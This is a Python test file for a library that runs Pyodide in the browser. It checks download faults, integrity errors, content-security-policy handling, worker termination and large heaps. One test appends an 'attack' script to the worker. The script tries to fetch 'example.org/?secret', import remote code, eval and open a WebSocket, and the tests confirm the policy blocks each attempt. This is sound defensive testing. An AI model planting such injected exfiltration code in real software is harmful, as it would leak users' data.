"""Starting Python in a page, and what becomes of a session whose worker ends."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from . import faulty_site
from .faulty_site import Answer, Fault, FaultySite
from .probing import Probe

START = "const { loom } = await import('/loom.js'); const session = await loom.start(options);"
USE = """
const network = await session.createNetwork({ layers: [{ type: "dense", input_size: 2, output_size: 3 }] });
const { length } = await network.forward([1, 2]);
"""
POLICY = (
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; "
    "connect-src 'self' https://huggingface.co"
)
"""As docs/javascript.md shows it."""


def started(options: str = "{}", then: str = "session.dispose(); return { started: true };") -> str:
    return f"const options = {options}; {START} {then}"


# Source: pyodide #6296, where `loadPyodide` never settles when its WebAssembly cannot be had.
@pytest.mark.parametrize("options", ["{}", "{ worker: false }"], ids=["worker", "page"])
@pytest.mark.parametrize(
    ("file", "fault", "words"),
    [
        ("pyodide.asm.wasm", faulty_site.missing, "status 404"),
        ("pyodide.asm.wasm", faulty_site.login, "HTML page"),
        ("pyodide.asm.wasm", faulty_site.redirected, "HTML page"),
        ("pyodide.asm.wasm", faulty_site.cut, "connection was lost"),
        ("python_stdlib.zip", faulty_site.missing, "status 404"),
        ("pyodide.asm.mjs", faulty_site.login, "HTML page"),
        ("runtime.json", faulty_site.login, "HTML page"),
        ("packages.bin", faulty_site.missing, "status 404"),
    ],
)
def test_a_runtime_that_cannot_be_had_is_an_error(
    probe: Probe, faulty: FaultySite, file: str, fault: Fault, words: str, options: str
) -> None:
    faulty.pages["/login.html"] = (faulty_site.LOGIN, {"Content-Type": "text/html"})
    faulty.faults[file] = fault
    result = probe(started(options))
    assert result["name"] == "RuntimeFailure"
    assert words in result["message"]
    assert result["where"].endswith(file)
    assert result["remedy"]


# Source: found by attack.
def test_a_server_that_stops_answering_is_an_error(probe: Probe, faulty: FaultySite, site: Path) -> None:
    limit = b"IDLE_MS = 10_000"
    faulty.faults["/runtime_files.js"] = lambda body: Answer(200, body.replace(limit, b"IDLE_MS = 3_000"))
    faulty.faults["pyodide.asm.wasm"] = faulty_site.stalled
    result = probe(started())
    assert limit in (site / "runtime_files.js").read_bytes()
    assert result["name"] == "RuntimeFailure"
    assert "sent nothing for 3 seconds" in result["message"]


# Source: found by attack.
@pytest.mark.parametrize("fault", [faulty_site.missing, faulty_site.login])
def test_a_worker_that_cannot_be_had_is_an_error(probe: Probe, faulty: FaultySite, fault: Fault) -> None:
    faulty.faults["/worker.js"] = fault
    result = probe(started())
    assert result["name"] == "RuntimeFailure"
    assert result["where"].endswith("/worker.js")
    assert ("status 404" if fault is faulty_site.missing else "HTML page") in result["message"]
    assert "baseURL" in result["remedy"]


# Source: pyodide #3141 and WebAssembly/content-security-policy #7 name the sources that a policy needs.
@pytest.mark.parametrize("options", ["{}", "{ worker: false }"], ids=["worker", "page"])
@pytest.mark.parametrize(
    ("policy", "directive"),
    [
        ("script-src 'self'; worker-src blob:; connect-src 'self'", "script-src"),
        ("script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; connect-src 'none'", "connect-src"),
        ("script-src 'self' 'wasm-unsafe-eval'; worker-src 'none'; connect-src 'self'", "worker-src"),
    ],
)
def test_a_policy_that_forbids_the_start_is_named(probe: Probe, policy: str, directive: str, options: str) -> None:
    result = probe(started(options), policy=policy)
    if directive == "worker-src" and "false" in options:
        assert result == {"started": True}
        return
    assert result["name"] == "RuntimeFailure"
    assert result["where"] == f"Content-Security-Policy: {directive}"
    assert "docs/javascript.md" in result["remedy"]


# Source: found by attack.
@pytest.mark.parametrize("file", ["/worker.js", "runtime.json"])
def test_a_sandboxed_frame_starts_or_says_why_not(probe: Probe, faulty: FaultySite, file: str) -> None:
    """Its origin is none: it may use files that say that anyone may."""
    sandbox = {"Content-Security-Policy": "sandbox allow-scripts"}
    faulty.headers["Access-Control-Allow-Origin"] = "*"
    faulty.faults[file] = lambda body: Answer(200, body, {"Access-Control-Allow-Origin": "https://example.org"})
    result = probe(started(), headers=sandbox)
    assert result["name"] == "RuntimeFailure"
    assert result["where"].endswith(file)
    assert result["remedy"]
    faulty.faults.clear()
    assert probe(started(then=f"{USE} return {{ length }};"), headers=sandbox) == {"length": 3}


START_FILES = [
    "pyodide.asm.wasm",
    "python_stdlib.zip",
    "pyodide.mjs",
    "pyodide.asm.mjs",
    "pyodide-lock.json",
    "packages.bin",
    "simd/loom-relaxed.wasm",
]


# Source: found by attack: bytes appended to these files were not noticed.
@pytest.mark.parametrize("fault", [faulty_site.longer, faulty_site.flipped])
@pytest.mark.parametrize("file", START_FILES)
def test_a_damaged_file_is_fetched_again_and_then_an_error(
    probe: Probe, faulty: FaultySite, file: str, fault: Fault
) -> None:
    faulty.faults[file] = fault
    result = probe(started())
    assert result["name"] == "IntegrityError"
    assert result["where"].endswith(file)
    assert "upload all files" in result["remedy"]
    assert len([path for path in faulty.requests if path.endswith(file)]) == 2


@pytest.mark.parametrize("fault", [faulty_site.longer, faulty_site.flipped])
def test_files_that_were_damaged_once_are_used(probe: Probe, faulty: FaultySite, fault: Fault) -> None:
    """Each of them in one start."""
    faulty.faults = {f"{file}#1": fault for file in START_FILES}
    assert probe(started()) == {"started": True}
    assert faulty.faults == {}
    assert all(sum(path.endswith(file) for path in faulty.requests) > 1 for file in START_FILES)


# Source: found by attack: a list that a cache keeps from an older build.
def test_an_old_runtime_list_is_fetched_again(probe: Probe, faulty: FaultySite) -> None:
    faulty.faults["runtime.json#1"] = lambda body: Answer(200, body.replace(b'"size": ', b'"size": 1'))
    assert probe(started()) == {"started": True}
    faulty.faults["runtime.json"] = lambda _: Answer(200, b"{}")
    assert probe(started())["name"] == "RuntimeFailure"


KILL = """
const workers = [];
const Real = Worker;
globalThis.Worker = class extends Real {
  constructor(...args) { super(...args); workers.push(this); }
};
"""
LONG = """
const network = await session.createNetwork({ layers: [{ type: "dense", input_size: 2, output_size: 1 }] });
const pending = network.train([{ input: [0, 1], target: [1] }], { epochs: 1e8 }).then(() => "finished", failed);
const other = session.loadModel("https://localhost:1/never.gguf").then(() => "loaded", failed);
"""
AFTER = """
const first = await pending;
await other;
const later = await network.forward([1, 2]).catch(failed);
const again = await (await loom.start()).createNetwork({ layers: [{ type: "dense", input_size: 2, output_size: 1 }] });
return { first, later, length: (await again.forward([1, 2])).length };
"""
WORKER_CODE = b"""
addEventListener("message", ({ data }) => {
  if (data === "close") close();
  if (data === "throw") setTimeout(() => { throw new Error("out of memory"); });
});
"""


# Source: whatwg/html #5869: nothing tells a page that a worker has ended.
@pytest.mark.parametrize(
    "end",
    ["workers[0].terminate()", "workers[0].postMessage('close')", "workers[0].postMessage('throw')"],
    ids=["terminated", "closed", "thrown"],
)
def test_calls_fail_at_once_when_the_worker_ends(probe: Probe, faulty: FaultySite, end: str) -> None:
    faulty.faults["/worker.js"] = lambda body: Answer(200, body + WORKER_CODE)
    ending = f"await new Promise((r) => setTimeout(r, 300)); {end};"
    result = probe(KILL + started(then=LONG + ending + AFTER))
    for error in (result["first"], result["later"]):
        assert error["name"] == "RuntimeFailure"
        assert "the worker that runs Python has ended" in error["message"]
        assert "loom.start()" in error["remedy"]
    assert result["length"] == 1


ATTACK = b"""
const tried = async (work) => { try { await work(); return "done"; } catch (error) { return error.name; } };
addEventListener("message", async ({ data, ports }) => {
  if (data !== "attack") return;
  const violations = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    violations.push([effectiveDirective, blockedURI]));
  const results = {
    fetch: await tried(() => fetch("https://example.org/?secret", { mode: "no-cors" })),
    import: await tried(() => import("https://example.org/secret.js")),
    eval: await tried(() => (0, eval)("1")),
    function: await tried(() => new Function("return 1")()),
    blob: await tried(() => import(URL.createObjectURL(new Blob(["1"], { type: "text/javascript" })))),
    request: await tried(() => {
      const request = new XMLHttpRequest();
      request.open("GET", "https://example.org/", false);
      request.send();
    }),
    own: await tried(() => fetch(`${origin}/pyodide/runtime.json`)),
  };
  tried(() => (new WebSocket("wss://example.org/").onerror = () => {}));
  tried(() => (new Worker(`${origin}/worker.js`, { type: "module" }).onerror = () => {}));
  tried(() => fetch("https://huggingface.co/api"));
  for (let i = 0; i < 100 && !violations.some(([, uri]) => uri.startsWith("wss:")); i++) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  ports[0].postMessage({ ...results, violations });
});
"""
ASK = """
const { port1, port2 } = new MessageChannel();
const answer = new Promise((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
workers[0].postMessage("attack", [port2]);
return { ...(await answer), length };
"""


def check_attack(result: dict[str, Any]) -> None:
    blocked = ("fetch", "import", "eval", "function", "blob", "request")
    assert {result[name] for name in blocked} <= {"TypeError", "EvalError", "NetworkError"}, result
    assert result["own"] == "done"
    assert result["length"] == 3
    reports = [directive.split("-elem")[0] + " " + uri for directive, uri in result["violations"]]
    assert any("connect-src" in line and "wss://example.org" in line for line in reports), reports
    assert not any("huggingface" in line for line in reports), reports


# Source: found by attack; w3c/webappsec #70: workers made of blobs have the policy of the page.
def test_the_worker_is_under_the_pages_policy(probe: Probe, faulty: FaultySite) -> None:
    faulty.faults["/worker.js"] = lambda body: Answer(200, body + ATTACK)
    result = probe(KILL + started(then=USE + ASK), policy=POLICY)
    check_attack(result)
    assert any(directive == "worker-src" for directive, _ in result["violations"])


def test_a_policy_without_blobs_is_said(probe: Probe) -> None:
    notices = "const notices = []; const onProgress = (p) => p.status === 'notice' && notices.push(p.message);"
    policy = "script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'"
    result = probe(notices + started("{ onProgress }", "return { notices };"), policy=policy)
    assert "without the page's content security policy" in result["notices"][0]


@pytest.mark.parametrize("name", ["index.html", "inference.html"])
def test_the_sites_pages_have_it_on_a_plain_host(faulty: FaultySite, chromium: Browser, name: str) -> None:
    faulty.faults = {"/worker.js": lambda body: Answer(200, body + ATTACK)}
    tab = chromium.new_page()
    tab.goto(f"{faulty.url}{name}")
    check_attack(tab.evaluate(f"async () => {{ {KILL} {started(then=USE + ASK)} }}"))
    tab.close()
    faulty.faults.clear()


LARGE_HEAP = """
const { boot } = await import("/engine/boot.js");
const { pyodide, bridge } = await boot();
const config = { layers: [{ type: "dense", input_size: 1, output_size: 1000000 }] };
const given = (value, code) => (pyodide.globals.set("given", value), pyodide.runPython(code));
const run = () => {
  const target = new Uint8Array(100000);
  const handle = bridge.create_network(JSON.stringify(config), 7);
  const network = new Float32Array(bridge.forward(handle, new Float32Array([1])));
  const numbers = pyodide.runPython("import numpy; numpy.arange(100000.0)");
  const grid = pyodide.runPython("numpy.arange(60000, dtype='int32').reshape(200, 300)[::2, ::3]");
  const buffer = numbers.getBuffer();
  const results = {
    network: [network[1], network[999999], network.length],
    ascii: pyodide.runPython("'x' * 200000 + 'end'").slice(-5),
    accented: pyodide.runPython("'é' * 200000 + 'end'").slice(-5),
    wide: pyodide.runPython("'語' * 200000 + '🙂'").slice(-3),
    copied: numbers.toJs().at(-1),
    viewed: [buffer.data.at(-1), buffer.shape[0]],
    strided: grid.toJs().at(-1).at(-1),
    written: given(new Float64Array(100000).fill(3), "given.to_py().tolist()[-1]"),
    bytes: given(new Uint8Array(100000).fill(5), "given.to_bytes()[-1]"),
    assigned: given(target, "given.assign(bytes([9]) * 100000)") ?? target.at(-1),
  };
  buffer.release();
  return results;
};
const small = run();
// The small ones fill what is free below.
const sizes = "[2**28] * 9 + [2**20] * 300 + [2**18] * 300 + [2**16] * 300";
pyodide.runPython(`ballast = [bytearray(size) for size in ${sizes}]`);
const large = run();
const address = pyodide.runPython("numpy.zeros(100000).__array_interface__['data'][0]");
let words = "";
try { pyodide.runPython("ballast += [bytearray(2**28) for _ in range(9)]"); } catch (error) { words = error.message; }
return { small, large, high: address > 2 ** 31, words };
"""


# Source: found by soaking; pyodide #6217 mends a sibling of these signed pointers.
def test_values_are_right_when_the_heap_is_larger_than_two_gibibytes(probe: Probe) -> None:
    result = probe(LARGE_HEAP, seconds=240)
    assert result["high"]
    assert result["large"] == result["small"]
    assert result["small"]["network"][2] == 1_000_000
    assert result["small"]["written"] == 3
    assert "MemoryError" in result["words"]
